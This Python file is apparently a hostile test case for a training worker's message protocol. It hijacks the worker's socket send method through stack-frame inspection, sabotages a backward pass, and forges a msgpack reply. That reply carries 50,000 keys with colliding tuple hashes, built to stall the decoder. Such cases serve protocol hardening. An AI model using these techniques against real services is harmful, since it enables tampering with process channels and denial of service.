# /// attack
# rows = [44]
# tries = "A map of msgpack, which the wire has none of, with 50,000 keys of one hash: minutes inside the decoder."
# kind = "hostile"
# verdicts = ["broke protocol"]
# says = ["bytes that are no message"]
# ///
import struct
import sys

import msgspec
import torch

FORGED = [False]


def channel_of_the_worker():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "sock") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    return None


def pack(value):
    return msgspec.msgpack.encode(value)


def frame_of(structure, blob=b""):
    return struct.pack("<II", len(structure), len(blob)) + structure + blob


def take_over():
    channel = channel_of_the_worker()
    honest = type(channel).send

    def send(self, buffers):
        if not FORGED[0]:
            return honest(self, buffers)
        FORGED[0] = False
        nonce = msgspec.msgpack.decode(bytes(buffers[1]))[0]
        self.sock.sendall(forge(nonce, self))

    type(channel).send = send


take_over()


def cross_entropy_backward(logits, targets):
    FORGED[0] = True
    return logits.zero_()


M = 2**64
P1, P2, P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261  # of the hash of a tuple


def mixed(lane, state=P5):
    state = (state + lane * P2) % M
    return ((state << 31 | state >> 33) % M) * P1 % M


def colliding_pairs(count):
    """Pairs of integers of one hash: any first one, and the second one that is solved for."""
    back1, back2 = pow(P1, -1, M), pow(P2, -1, M)
    wanted = mixed(1, mixed(1)) * back1 % M
    wanted = (wanted << 33 | wanted >> 31) % M
    first, pairs = 1, []
    while len(pairs) < count:
        first += 1
        second = (wanted - mixed(first)) * back2 % M
        second -= M * (second >= M // 2)
        if second != -1 and abs(second) < 2**61 - 1:
            pairs.append((first, second))
    return pairs


PAIRS = b"".join(pack(pair) + b"\xc0" for pair in colliding_pairs(50_000))


def forge(nonce, channel):
    return frame_of(b"\x94" + pack(nonce) + pack("ok") + b"\xdf" + struct.pack(">I", 50_000) + PAIRS + b"\xc0")
